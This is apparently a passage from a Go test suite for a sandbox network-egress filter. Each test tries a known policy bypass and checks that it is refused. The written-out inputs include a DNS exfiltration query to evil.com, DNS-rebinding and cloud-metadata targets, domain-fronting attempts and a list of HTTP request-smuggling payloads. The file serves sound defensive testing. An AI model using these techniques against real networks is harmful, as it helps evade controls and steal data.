package netjail_test

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/bailey-platform/bailey/egress"
	"github.com/bailey-platform/bailey/netjail"
)

// Every test here is a way in which somebody's network policy was got round, named
// after it.

// The rule of most of them: one host, by the web's ports.
func oneHost() netjail.Options {
	return netjail.Options{Policy: limited(egress.Rule{Name: "allowed", Hosts: []string{"allowed.example"}})}
}

func TestBypassHostNameWithNULByte(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"**.allowed.example"}})})
	for _, name := range []string{"evil.com\x00.allowed.example", "evil.com\n.allowed.example", "evil.com .allowed.example", "evil%2ecom.allowed.example", "evil@x.allowed.example", "evil/x.allowed.example", `evil\x.allowed.example`, "_x.allowed.example", "ex\xffx.allowed.example"} {
		if addr, err := b.resolve(name); !errors.Is(err, errRefusedName) {
			t.Errorf("%q is %v, %v", name, addr, err)
		}
	}
	if asked := w.lookedUp(); len(asked) != 0 {
		t.Errorf("looked up %q", asked)
	}
	for _, d := range b.recorded(netjail.ActionDNS) {
		if strings.ContainsAny(d.Host+d.Reason, "\x00\n") || !utf8.ValidString(d.Host+d.Reason) {
			t.Errorf("the record has raw bytes of the box in it: %q", d.Host)
		}
	}
}

func TestBypassTrailingDotAndCase(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := new(site)
	w.host("allowed.example", s)
	w.host("denied.example", new(site))
	b := w.box(oneHost())
	for _, host := range []string{"ALLOWED.example", "allowed.example.", "aLLoWeD.eXample"} {
		r, body := b.fetch(b.client(), "GET", "http://allowed.example/", "", "Host", host)
		if r.StatusCode != 200 || body != "hello" {
			t.Errorf("Host %q: %d %s", host, r.StatusCode, body)
		}
	}
	for _, seen := range s.all() {
		if seen.Host != "allowed.example" {
			t.Errorf("the host was asked for %q, not its canonical name", seen.Host)
		}
	}
	for _, name := range []string{"DENIED.example", "Denied.Example"} {
		if _, err := b.resolve(name); !errors.Is(err, errRefusedName) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestBypassWildcardDepth(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"*.one.example"}}, egress.Rule{Hosts: []string{"**.any.example"}})})
	for name, want := range map[string]bool{
		"a.one.example": true, "one.example": false, "a.b.one.example": false, "aone.example": false, "a.one.example.evil.com": false,
		"a.any.example": true, "a.b.any.example": true, "any.example": false, "xany.example": false,
	} {
		if _, err := b.resolve(name); (err == nil) != want {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestBypassDNSExfiltration(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	leaked := make(chan string, 10)
	// Whoever serves DNS out there would see it.
	public := netip.MustParseAddr("8.8.8.8")
	udp, err := net.ListenPacket("udp", "8.8.8.8:53")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	go func() {
		buf := make([]byte, 1500)
		for {
			n, _, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			leaked <- fmt.Sprintf("udp %q", buf[:n])
		}
	}()
	w.serve(public, 53, func(conn *net.TCPConn) { leaked <- "tcp" })
	b := w.box(oneHost())
	for _, kind := range []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeNS, dnsmessage.TypePTR, dnsmessage.TypeCNAME} {
		for _, server := range []string{"198.18.0.1:53", "8.8.8.8:53"} {
			m, err := b.ask(server, question("c2VjcmV0.evil.com", kind))
			if err != nil || m.RCode != dnsmessage.RCodeRefused || len(m.Answers)+len(m.Authorities) != 0 {
				t.Errorf("%v at %s: %v, %v", kind, server, m, err)
			}
		}
	}
	conn, err := b.dial("8.8.8.8:53")
	if err != nil {
		t.Fatal(err)
	}
	q := question("c2VjcmV0.evil.com", dnsmessage.TypeA)
	conn.Write(append([]byte{0, byte(len(q))}, q...))
	head := make([]byte, 6)
	if _, err := io.ReadFull(conn, head); err != nil || head[5]&15 != byte(dnsmessage.RCodeRefused) {
		t.Errorf("by TCP: %x, %v", head, err)
	}
	conn.Close()
	for _, addr := range []string{"8.8.8.8:853", "8.8.8.8:443"} { // over TLS, over HTTPS
		conn, err := b.dial(addr)
		refused(t, addr, conn, err)
	}
	if asked := w.lookedUp(); len(asked) != 0 {
		t.Errorf("denied names were looked up: %q", asked)
	}
	select {
	case what := <-leaked:
		t.Errorf("the world has heard of it: %s", what)
	default:
	}
	b.denied("c2vjcmv0.evil.com is blocked by the network policy")
}

func TestBypassDNSRebinding(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	inner := netip.MustParseAddr("10.77.0.1")
	w.serve(inner, 80, greeter("the intranet"))
	for name, addrs := range map[string]string{
		"private": "10.77.0.1", "loopback": "127.0.0.1", "metadata": "169.254.169.254", "link": "169.254.7.7", "own6": "::1",
		"mapped": "::ffff:10.77.0.1", "nat64": "64:ff9b::a4d:1", "sixtofour": "2002:a4d:1::1", "unspecified": "0.0.0.0", "fake": "198.18.0.2",
		"ula": "fd00:ec2::254", "multicast": "224.0.0.1",
	} {
		w.name(name+".allowed.example", netip.MustParseAddr(addrs))
	}
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"*.allowed.example"}, Ports: ports(80), Protocol: egress.TCP})})
	for _, name := range []string{"private", "loopback", "metadata", "link", "own6", "mapped", "nat64", "sixtofour", "unspecified", "fake", "ula", "multicast"} {
		conn, err := b.reach(name+".allowed.example", 80)
		refused(t, name, conn, err)
	}
	b.denied("private.allowed.example:80 is blocked by the network policy: the name leads to a private address")
	// Once the name led to a public address, it is still that address's turn to be judged.
	good := w.address()
	w.serve(good, 80, greeter("good"))
	w.name("turns.allowed.example", good)
	if line, err := b.hears("turns.allowed.example", 80); line != "good\n" {
		t.Fatalf("heard %q, %v", line, err)
	}
	w.name("turns2.allowed.example", netip.MustParseAddr("10.77.0.1"), good)
	if line, err := b.hears("turns2.allowed.example", 80); line != "good\n" {
		t.Errorf("a name with a good and a bad address: %q, %v", line, err)
	}
}

func TestBypassRawAddresses(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	public := w.address()
	w.serve(public, 443, greeter("public"))
	w.name("allowed.example", public)
	b := w.box(oneHost())
	// Even the address that the allowed name leads to.
	for _, addr := range []string{public.String() + ":443", "8.8.8.8:443", "10.0.0.1:443", "[2606:4700::1]:443", "[::ffff:" + public.String() + "]:443", "[64:ff9b::808:808]:443", "0.0.0.0:443", "255.255.255.255:443"} {
		conn, err := b.dial(addr)
		if err != nil && !isReset(err) && strings.Contains(err.Error(), "connect") {
			continue // refused by the namespace itself
		}
		refused(t, addr, conn, err)
	}
	for _, name := range []string{"2130706433", "0x7f000001", "0177.0.0.1", "127.1", public.String()} {
		if addr, err := b.resolve(name); !errors.Is(err, errRefusedName) {
			t.Errorf("the name %s is %v, %v", name, addr, err)
		}
	}
	b.denied(public.String() + ":443 is blocked by the network policy: no rule allows this address; connect by name")
}

func TestBypassFakeAddressThatStandsForNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.name("allowed.example", w.address())
	b := w.box(oneHost())
	for _, addr := range []string{"198.18.0.2:443", "198.18.0.1:443", "198.18.0.0:80", "198.19.255.255:80"} {
		conn, err := b.dial(addr)
		refused(t, addr, conn, err)
	}
	b.denied("the address stands for no name that this box has asked for")
}

func TestBypassMetadataAddresses(t *testing.T) {
	t.Parallel()
	for _, mode := range []egress.Mode{egress.Limited, egress.Unrestricted} {
		t.Run(string(mode), func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			b := w.box(netjail.Options{Policy: egress.Policy{Mode: mode}})
			for _, addr := range []string{"169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"} {
				conn, err := b.dial(netip.AddrPortFrom(netip.MustParseAddr(addr), 80).String())
				refused(t, addr, conn, err)
			}
			b.denied("metadata service address")
		})
	}
	t.Run("by name", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t)
		w.name("metadata.google.internal", netip.MustParseAddr("169.254.169.254"))
		b := w.box(netjail.Options{Policy: egress.Policy{Mode: egress.Unrestricted}})
		conn, err := b.reach("metadata.google.internal", 80)
		refused(t, "the name of a metadata service", conn, err)
	})
}

func TestBypassTheWorkersOwnNetwork(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	// Something of the worker's host that listens where only it should be heard.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			fmt.Fprintln(conn, "the worker's host")
			conn.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).AddrPort().Port()
	w.name("home.example", netip.MustParseAddr("127.0.0.1"))
	b := w.box(netjail.Options{Policy: egress.Policy{Mode: egress.Unrestricted}})
	conn, err := b.reach("home.example", port)
	refused(t, "a name of the host's loopback", conn, err)
	if conn, err := b.dial(fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
		line, _ := bufio.NewReader(conn).ReadString('\n')
		t.Errorf("the box's loopback is the host's: %q", line)
	}
	if _, err := b.resolve("localhost"); !errors.Is(err, errRefusedName) {
		t.Errorf("localhost: %v", err)
	}
}

func TestBypassDomainFrontingBySNI(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	// One server for the allowed host and another, as a content network is.
	addr := w.address()
	s := new(site)
	cert := w.certificate("allowed.example", "fronted.example")
	w.web(addr, 443, &cert, s)
	w.name("allowed.example", addr)
	b := w.box(oneHost())
	for _, sni := range []string{"fronted.example", "x.allowed.example", "allowed.example.evil.com"} {
		conn, err := b.reach("allowed.example", 443)
		if err != nil {
			t.Fatal(err)
		}
		if err := tls.Client(conn, &tls.Config{ServerName: sni, InsecureSkipVerify: true}).Handshake(); err == nil {
			t.Errorf("a connection to allowed.example got through as %s", sni)
		}
		b.denied("its TLS greeting is for another host")
	}
	conn, err := b.reach("allowed.example", 443)
	if err != nil {
		t.Fatal(err)
	}
	if err := tls.Client(conn, &tls.Config{InsecureSkipVerify: true}).Handshake(); err == nil { // no name at all
		t.Error("a connection got through without a name")
	}
	b.denied("names no host (SNI)")
	if got := s.all(); len(got) != 0 {
		t.Errorf("served %+v", got)
	}
}

func TestBypassDomainFrontingByHost(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := new(site)
	w.host("allowed.example", s)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"allowed.example"}, Protocol: egress.HTTPS}, egress.Rule{Name: "plain", Hosts: []string{"allowed.example"}, Protocol: egress.HTTP})})
	c := b.client()
	for _, scheme := range []string{"http", "https"} {
		for _, host := range []string{"fronted.example", "allowed.example:444", "allowed.example.evil.com", "10.0.0.1"} {
			r, body := b.fetch(c, "GET", scheme+"://allowed.example/", "", "Host", host)
			if r.StatusCode != http.StatusMisdirectedRequest && r.StatusCode != http.StatusBadRequest || strings.Contains(body, "hello") {
				t.Errorf("%s, Host %q: %d %s", scheme, host, r.StatusCode, body)
			}
		}
		if r, body := b.fetch(c, "GET", scheme+"://allowed.example/", ""); r.StatusCode != 200 || body != "hello" {
			t.Errorf("the host itself: %d %s", r.StatusCode, body)
		}
	}
	if got := s.all(); len(got) != 2 {
		t.Errorf("served %+v", got)
	}
}

func TestBypassPlaintextWhereTLSIsMeant(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	addr := w.address()
	w.name("allowed.example", addr)
	w.serve(addr, 443, greeter("anything"))
	b := w.box(oneHost())
	for _, first := range []string{"SSH-2.0-x\r\n", "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n", "\x16\x03\x01\xff\xff" + strings.Repeat("x", 100), "\x80\x2e\x01\x00\x02"} {
		conn, err := b.reach("allowed.example", 443)
		if err != nil {
			t.Fatal(err)
		}
		conn.Write([]byte(first))
		if first[0] == 0x16 {
			conn.CloseWrite()
		}
		refused(t, fmt.Sprintf("%.20q", first), conn, nil)
	}
	// And nothing that is no HTTP where HTTP is meant.
	conn, err := b.reach("allowed.example", 80)
	if err != nil {
		t.Fatal(err)
	}
	conn.Write([]byte("SSH-2.0-x\r\n\r\n"))
	if got, _ := io.ReadAll(conn); strings.Contains(string(got), "anything") {
		t.Errorf("heard %q", got)
	}
}

func TestBypassSilenceOnAPortThatIsLookedInto(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	addr := w.address()
	w.name("allowed.example", addr)
	w.serve(addr, 443, greeter("anything"))
	o := oneHost()
	o.Limits.Greeting = 100 * time.Millisecond
	b := w.box(o)
	conn, err := b.reach("allowed.example", 443)
	refused(t, "a connection on which nothing is said", conn, err)
	conn, err = b.reach("allowed.example", 443)
	if err != nil {
		t.Fatal(err)
	}
	conn.Write([]byte("\x16\x03\x01\x02\x00\x01\x00")) // the beginning of a greeting
	refused(t, "a greeting that never ends", conn, nil)
}

func TestBypassEncryptedClientHello(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	addr := w.address()
	w.name("allowed.example", addr)
	s := new(site)
	cert := w.certificate("allowed.example")
	w.web(addr, 443, &cert, s)
	greeting := func(b *box) *net.TCPConn {
		conn, err := b.reach("allowed.example", 443)
		if err != nil {
			t.Fatal(err)
		}
		return conn
	}
	ech := func() []byte { return echConfigList(t, "allowed.example") }
	shake := func(b *box) error {
		client := tls.Client(greeting(b), &tls.Config{ServerName: "inner.example", RootCAs: w.roots, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: ech()})
		return client.Handshake()
	}
	var rejected *tls.ECHRejectionError
	b := w.box(oneHost())
	if err := shake(b); err == nil || errors.As(err, &rejected) {
		t.Errorf("an encrypted greeting reached the host: %v", err)
	}
	b.denied("its TLS greeting is encrypted (ECH)")
	// Nobody tells a box the keys.
	for _, kind := range []dnsmessage.Type{64, 65} {
		if m, err := b.ask("198.18.0.1:53", question("allowed.example", kind)); err != nil || len(m.Answers) != 0 {
			t.Errorf("type %d: %v, %v", kind, m, err)
		}
	}
	// The operator may let it pass.
	o := netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"allowed.example"}, AllowECH: true})}
	if err := shake(w.box(o)); !errors.As(err, &rejected) {
		t.Errorf("where it is allowed, the host does not get it: %v", err)
	}
}

func TestBypassHTTP2Coalescing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	one, two := new(site), new(site)
	w.host("one.example", one)
	w.host("two.example", two)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"one.example", "two.example"}, Protocol: egress.HTTPS})})
	c := b.client()
	if r, _ := b.fetch(c, "GET", "https://one.example/", ""); r.ProtoMajor != 2 {
		t.Fatalf("it is not HTTP/2 but %s", r.Proto)
	}
	// The same connection, for the other host, which is allowed as well but is not whom
	// the connection is for.
	r, body := b.fetch(c, "GET", "https://one.example/", "", "Host", "two.example")
	if r.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("%d %s", r.StatusCode, body)
	}
	if len(one.all()) != 1 || len(two.all()) != 0 {
		t.Errorf("served %v and %v", one.all(), two.all())
	}
	b.denied("it is for two.example, and the connection for one.example")
}

func TestBypassEveryRequestOfAConnectionIsJudged(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := new(site)
	w.host("allowed.example", s)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Name: "reads", Hosts: []string{"allowed.example"}, Methods: []string{"GET"}, Paths: []string{"/public/**"}})})
	for _, scheme := range []string{"http", "https"} {
		c := b.client()
		for _, q := range []struct {
			method, path string
			want         int
		}{
			{"GET", "/public/a", 200}, {"POST", "/public/a", 403}, {"GET", "/private", 403}, {"GET", "/public/../private", 403},
			{"GET", "/public/%2e%2e/private", 403}, {"DELETE", "/public/a", 403}, {"GET", "/public/b?x=/private", 200},
		} {
			r, body := b.fetch(c, q.method, scheme+"://allowed.example"+q.path, "")
			if r.StatusCode != q.want || q.want == 403 && !strings.Contains(body, "no rule allows") && !strings.Contains(body, "cannot judge") {
				t.Errorf("%s %s %s: %d %s", scheme, q.method, q.path, r.StatusCode, body)
			}
		}
	}
	if n := len(s.all()); n != 4 {
		t.Errorf("%d requests got through", n)
	}
	requests := b.recorded(netjail.ActionRequest)
	if len(requests) != 14 || requests[0].Target() != "GET http://allowed.example:80/public/a" || requests[1].Allow {
		t.Errorf("decisions %+v", requests)
	}
}

// What the box sends as one request, and another program could take for two.
var smuggled = map[string]string{
	"two lengths":                "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"the same length twice":      "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n",
	"a list of lengths":          "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0, 0\r\n\r\n",
	"a length and chunks":        "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"chunks and a length":        "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"an unknown encoding":        "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
	"two encodings":              "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
	"an encoding twice":          "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
	"an encoding with a tab":     "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
	"a space before the colon":   "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
	"a folded header":            "POST / HTTP/1.1\r\nHost: HOST\r\nX: a\r\n Transfer-Encoding: chunked\r\n\r\n",
	"chunks in HTTP/1.0":         "POST / HTTP/1.0\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	"lines that end in LF":       "POST / HTTP/1.1\nHost: HOST\n\n",
	"one line that ends in LF":   "GET / HTTP/1.1\r\nHost: HOST\r\nX: a\nGET /admin HTTP/1.1\r\n\r\n",
	"a CR within a line":         "GET / HTTP/1.1\r\nHost: HOST\r\nX: a\rTransfer-Encoding: chunked\r\n\r\n",
	"a NUL in a header":          "GET / HTTP/1.1\r\nHost: HOST\r\nX: a\x00b\r\n\r\n",
	"a header without a name":    "GET / HTTP/1.1\r\nHost: HOST\r\n: a\r\n\r\n",
	"two hosts":                  "GET / HTTP/1.1\r\nHost: HOST\r\nHost: fronted.example\r\n\r\n",
	"no host":                    "GET / HTTP/1.1\r\n\r\n",
	"a length with a sign":       "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: +4\r\n\r\nabcd",
	"a length in hexadecimal":    "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0x4\r\n\r\nabcd",
	"a negative length":          "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: -1\r\n\r\n",
	"a chunk with an extension":  "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0;\nx\r\n\r\n",
	"a chunk without its CRLF":   "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcX0\r\n\r\n",
	"a chunk that ends in LF":    "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n3\nabc\r\n0\r\n\r\n",
	"a chunk of a huge size":     "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff0\r\nabc",
	"a trailer that is a length": "POST / HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 4\r\n\r\n",
	"a request for a proxy":      "GET http://fronted.example/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"CONNECT":                    "CONNECT fronted.example:443 HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"CONNECT to the host":        "CONNECT HOST:443 HTTP/1.1\r\nHost: HOST:443\r\n\r\n",
	"a space in the path":        "GET /a b HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"an asterisk":                "OPTIONS * HTTP/1.1\r\nHost: HOST\r\n\r\n",
	"HTTP/2 at once":             "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
	"HTTP/1.2":                   "GET / HTTP/1.2\r\nHost: HOST\r\n\r\n",
	"HTTP/0.9":                   "GET /\r\n",
	"a head without end":         "GET / HTTP/1.1\r\nHost: HOST\r\nX: " + strings.Repeat("a", 100<<10),
}

func TestBypassRequestSmuggling(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	s := new(site)
	w.host("allowed.example", s)
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Name: "all", Hosts: []string{"allowed.example"}, Paths: []string{"/", "/ok"}})})
	for name, raw := range smuggled {
		for _, port := range []uint16{80, 443} {
			conn, err := b.reach("allowed.example", port)
			if err != nil {
				t.Fatal(err)
			}
			var stream io.ReadWriter = conn
			if port == 443 {
				client := tls.Client(conn, &tls.Config{ServerName: "allowed.example", RootCAs: b.trusts(), NextProtos: []string{"http/1.1"}})
				if err := client.Handshake(); err != nil {
					t.Fatal(err)
				}
				stream = client
			}
			// After a good one, as smuggling goes by a connection that is in use.
			io.WriteString(stream, "GET /ok HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
			answers := bufio.NewReader(stream)
			if r, err := http.ReadResponse(answers, nil); err != nil || r.StatusCode != 200 {
				t.Errorf("%s: the request before it: %v, %v", name, r, err)
			} else {
				io.Copy(io.Discard, r.Body)
			}
			go io.WriteString(stream, strings.ReplaceAll(raw, "HOST", "allowed.example"))
			if answer, _ := io.ReadAll(answers); strings.Contains(string(answer), " 200 ") || strings.Contains(string(answer), "hello") {
				t.Errorf("%s on port %d was answered:\n%s", name, port, answer)
			}
			conn.Close()
		}
	}
	for _, r := range s.all() {
		if r.URI != "/ok" {
			t.Errorf("got through: %+v", r)
		}
	}
	b.denied("a request to allowed.example:80 was refused")
}

// A box that edits what it trusts gains nothing: hosts are verified outside.
func TestBypassTrustStoreEditsInTheBox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	rogue, key := newCA(t, "an authority that only the box trusts")
	for name, cert := range map[string]tls.Certificate{
		"rogue.example": issue(t, rogue, key, "rogue.example"),
		"wrong.example": w.certificate("another.example"),
	} {
		addr := w.address()
		w.name(name, addr)
		w.web(addr, 443, &cert, new(site))
	}
	b := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"rogue.example", "wrong.example"}, Protocol: egress.HTTPS})})
	c := b.client()
	c.Transport.(*http.Transport).TLSClientConfig.RootCAs.AddCert(rogue)
	c.Transport.(*http.Transport).TLSClientConfig.InsecureSkipVerify = true
	for _, name := range []string{"rogue.example", "wrong.example"} {
		r, body := b.fetch(c, "GET", "https://"+name+"/", "")
		if r.StatusCode != http.StatusBadGateway || !strings.Contains(body, "certificate") {
			t.Errorf("%s: %d %s", name, r.StatusCode, body)
		}
	}
}

func TestBypassAuthorityOfAnotherBox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.host("allowed.example", new(site))
	o := netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"allowed.example"}, Protocol: egress.HTTPS})}
	one, two := w.box(o), w.box(o)
	c := one.client()
	c.Transport.(*http.Transport).TLSClientConfig.RootCAs = two.trusts()
	c.Transport.(*http.Transport).ForceAttemptHTTP2 = false
	_, err := c.Get("https://allowed.example/")
	var unknown x509.UnknownAuthorityError
	if !errors.As(err, &unknown) {
		t.Errorf("err = %v", err)
	}
	until(t, "the box is told what to trust", func() bool {
		return slices.ContainsFunc(one.jail.Denials(), func(d netjail.Denial) bool { return strings.Contains(d.Text, "must trust the certificates in") })
	})
}

// A proxy in the box, or none, changes nothing: the verdict depends on where a
// connection goes and on whose it is.
func TestBypassRelayInTheBox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	denied := w.address()
	w.name("denied.example", denied)
	w.serve(denied, 443, greeter("denied"))
	b := w.box(oneHost())
	var relay net.Listener
	b.inside(func() {
		var err error
		if relay, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
			t.Error(err)
		}
	})
	defer relay.Close()
	go func() {
		conn, err := relay.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		out, err := b.dial(denied.String() + ":443")
		if err != nil {
			return
		}
		defer out.Close()
		io.Copy(conn, out)
	}()
	conn, err := b.dial(relay.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if got, _ := io.ReadAll(conn); len(got) > 0 {
		t.Errorf("heard %q", got)
	}
	b.denied(denied.String() + ":443 is blocked")
}

func TestBypassQUICAndOtherUDP(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	heard := make(chan string, 10)
	for _, addr := range []string{"93.184.255.1:443", "93.184.255.1:123"} {
		conn, err := net.ListenPacket("udp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		go func() {
			buf := make([]byte, 100)
			if _, _, err := conn.ReadFrom(buf); err == nil {
				heard <- addr
			}
		}()
	}
	w.name("allowed.example", netip.MustParseAddr("93.184.255.1"))
	b := w.box(netjail.Options{Policy: egress.Policy{Mode: egress.Unrestricted}})
	fake, err := b.resolve("allowed.example")
	if err != nil {
		t.Fatal(err)
	}
	for _, to := range []string{"93.184.255.1:443", "93.184.255.1:123", fake.String() + ":443"} {
		b.inside(func() {
			conn, err := net.Dial("udp", to)
			if err != nil {
				return
			}
			defer conn.Close()
			conn.Write([]byte("x"))
			conn.SetDeadline(time.Now().Add(5 * time.Second))
			if n, err := conn.Read(make([]byte, 10)); err == nil {
				t.Errorf("%s has answered %d bytes", to, n)
			}
		})
	}
	select {
	case addr := <-heard:
		t.Errorf("a datagram has reached %s", addr)
	default:
	}
	// And a host that offers it over HTTP is not believed.
	s := &site{reply: func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Alt-Svc", `h3=":443"`) }}
	w.host("h3.example", s)
	opened := w.box(netjail.Options{Policy: limited(egress.Rule{Hosts: []string{"h3.example"}, Protocol: egress.HTTPS})})
	if r, _ := opened.fetch(opened.client(), "GET", "https://h3.example/", ""); r.Header.Get("Alt-Svc") != "" {
		t.Errorf("Alt-Svc: %s", r.Header.Get("Alt-Svc"))
	}
}

func TestBypassICMP(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.box(netjail.Options{Policy: egress.Policy{Mode: egress.Unrestricted}})
	b.inside(func() {
		conn, err := net.Dial("ip4:icmp", "93.184.255.2")
		if err != nil {
			return
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(300 * time.Millisecond))
		conn.Write([]byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0})
		if n, err := conn.Read(make([]byte, 100)); err == nil {
			t.Errorf("an answer of %d bytes", n)
		}
	})
}

func TestBypassPolicyFromTheBox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.host("denied.example", new(site))
	b := w.box(oneHost())
	// Whatever the box says of itself, in names or headers, is no part of a verdict.
	c := b.client()
	if _, err := c.Get("http://denied.example/?policy=unrestricted"); err == nil || !strings.Contains(err.Error(), errRefusedName.Error()) {
		t.Errorf("err = %v", err)
	}
}

func TestUnrestrictedReachesThePublicInternet(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	addr := w.address()
	w.name("any.example", addr)
	w.serve(addr, 6379, greeter("redis"))
	s := new(site)
	w.host("web.example", s)
	b := w.box(netjail.Options{Policy: egress.Policy{Mode: egress.Unrestricted}})
	if line, err := b.hears("any.example", 6379); line != "redis\n" {
		t.Errorf("by name: %q, %v", line, err)
	}
	conn, err := b.dial(addr.String() + ":6379")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if line, err := bufio.NewReader(conn).ReadString('\n'); line != "redis\n" {
		t.Errorf("by address: %q, %v", line, err)
	}
	if r, _ := b.fetch(b.client(), "GET", "http://web.example/", ""); r.StatusCode != 200 {
		t.Errorf("status %d", r.StatusCode)
	}
}

func TestPrivateRangesOpenByName(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	inner := netip.MustParseAddr("10.78.0.1")
	w.name("db.corp.example", inner)
	w.serve(inner, 5432, greeter("postgres"))
	w.serve(inner, 5433, greeter("another"))
	b := w.box(netjail.Options{Policy: limited(
		egress.Rule{Name: "db", Hosts: []string{"db.corp.example"}, Ports: ports(5432, 5433)},
		egress.Rule{Name: "net", CIDRs: []string{"10.78.0.0/24"}, Ports: ports(5432)},
	)})
	if line, err := b.hears("db.corp.example", 5432); line != "postgres\n" {
		t.Errorf("heard %q, %v", line, err)
	}
	conn, err := b.reach("db.corp.example", 5433)
	refused(t, "a port that the range is not open for", conn, err)
	// A range that is closed again cuts what went there, also by name.
	conn, err = b.reach("db.corp.example", 5432)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.ReadFull(conn, make([]byte, 9)); err != nil {
		t.Fatal(err)
	}
